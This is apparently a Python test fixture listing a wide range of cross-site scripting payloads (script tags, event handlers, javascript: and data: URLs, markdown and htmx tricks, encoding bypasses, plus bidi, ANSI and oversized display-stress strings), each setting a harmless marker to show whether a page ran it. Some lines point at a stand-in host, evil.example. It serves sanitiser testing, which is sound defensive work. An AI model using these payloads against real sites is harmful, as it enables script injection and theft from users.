"""Texts that would act in a page which let them: each holds the mark that a script of it would set."""

from __future__ import annotations

RUN = "window.__ran=1"
_HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter", "onbeforetoggle", "onscrollend",
)  # fmt: skip
_TAGS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</script>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<script src=data:,{}></script>",
    "<svg><script>{}</script></svg>", "<svg/onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:{}\"><text y=9>x</text></a></svg>",
    "<math><mtext><script>{}</script></mtext></math>", "<math href=\"javascript:{}\">x</math>", "<img src=x onerror={}>", "<img src=x onerror=\"{}\"//", "<img/src='x'/onerror='{}'>",
    "<IMG SRC=javascript:{}>", "<img src=\"java&#115;cript:{}\">", "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<body onload={}>", "<iframe src=\"javascript:{}\"></iframe>",
    "<iframe srcdoc=\"<script>{}</script>\"></iframe>", "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">", "<form action=\"javascript:{}\"><button>x</button></form>",
    "<button formaction=\"javascript:{}\">x</button>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<details open ontoggle={}>x</details>",
    "<marquee onstart={}>x</marquee>", "<base href=\"javascript:{}//\">", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<link rel=stylesheet href=\"data:text/css,*{{}}\" onload={}>",
    "<style>@import 'javascript:{}';</style>", "<div style=\"background:url(javascript:{})\">x</div>", "<p style=\"animation-name:x\" onanimationstart={}>x</p>", "<x onclick={}>x</x>",
    "<!--><script>{}</script>-->", "<!--[if gte IE 4]><script>{}</script><![endif]-->", "<![CDATA[<script>{}</script>]]>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<template><script>{}</script></template>", "<xmp><script>{}</script></xmp>", "<title><img src=x onerror={}></title>", "<textarea></textarea><script>{}</script>", "<table><td background=\"javascript:{}\">",
    "<isindex action=\"javascript:{}\">", "<keygen autofocus onfocus={}>", "<portal src=\"javascript:{}\">", "<dialog open onbeforetoggle={}>x</dialog>", "<a href=\"javascript:{}\">x</a>",
    "<a href=\"&#x6A;avascript:{}\">x</a>", "<a href=\"java\tscript:{}\">x</a>", "<a href=\" javascript:{}\">x</a>", "<a href=\"vbscript:{}\">x</a>", "<a href=\"data:text/html,<script>{}</script>\">x</a>",
    "<a ping=\"https://evil.example/\" href=\"https://ok.example\" onclick={}>x</a>", "<div hx-get=\"/web/\" hx-trigger=\"load\" hx-on:htmx:after:request=\"{}\">x</div>", "<div hx-on:click=\"{}\">x</div>",
    "<div data-hx-get=\"https://evil.example/\" data-hx-trigger=load>{}</div>", "<hx-partial hx-target=body><script>{}</script></hx-partial>", "\"><script>{}</script>", "'><script>{}</script>",
    "\" autofocus onfocus={} x=\"", "' onmouseover={} x='", "`><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</script><script>{}</script>", "</style><script>{}</script>", "{{{{ {} }}}}", "{{% raw %}}<script>{}</script>", "${{{}}}", "<%= {} %>", "#{{{}}}", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "＜script＞{}＜/script＞", "<ſcript>{}</ſcript>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](java&#115;cript:{})", "[x](java\tscript:{})", "[x](<javascript:{}>)", "[x]( javascript:{} )", "[x](vbscript:{})", "[x](data:text/html,<script>{}</script>)",
    "[x](\x01javascript:{})", "![x](javascript:{})", "![x](data:image/svg+xml,<svg/onload={}>)", "![x\" onerror=\"{}](https://ok.example/p.png)", "![x](https://ok.example/p.png\"onerror=\"{})",
    "[x](https://ok.example \"t\\\" onmouseover=\\\"{}\")", "<javascript:{}>", "[x]: javascript:{}\n\n[x]", "[![y](x)](javascript:{})", "[[\"><script>{}</script>]]", "[[x|<img src=x onerror={}>]]",
    "[[javascript:{}]]", "`<script>{}</script>`", "```html\n<script>{}</script>\n```", "```\"><script>{}</script>\nx\n```", "> <script>{}</script>", "# <script>{}</script>", "- <script>{}</script>",
    "| <script>{}</script> |\n|:-\"onload=\"{}|\n| x |", "~~<script>{}</script>~~", "**<script>{}</script>**", "[x](https://ok.example/?a=<script>{}</script>)", "\\<script>{}\\</script>", "[a](b 'c' onclick={})",
    "<https://ok.example/\"onmouseover=\"{}>", "[x](//evil.example/{})", "[x](/web/undo?{})", "[x](#\"onfocus=\"{})",
)  # fmt: skip
_SHOW = (
    "\u202edlrow olleh\u202c {}", "\u2066\u202e{}\u2069", "\u200b{}\u200d\ufeff", "\x1b[31m{}\x1b[0m", "\x1b]0;{}\x07", "a\u0300" * 300 + "{}", "W" * 4_000 + " {}", "> " * 60 + "{}", "[" * 400 + "{}",
    "*" * 400 + "{}", "- " * 60 + "{}", "`" * 300 + "{}", "| a " * 200 + "|\n" + "|-" * 200 + "|\n{}", "🙂" * 600 + "{}", "سلام " * 200 + "{}",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys((
        *(each.format(*(RUN,) * each.count("{}")) for each in (*_TAGS, *_MARKDOWN, *_SHOW)),
        *(f"<b {handler}={RUN} tabindex=0 autofocus>x</b>" for handler in _HANDLERS),
        *(f"<img src=x {handler}=\"{RUN}\">" for handler in _HANDLERS),
    ))
)  # fmt: skip
"""Everything that is tried."""
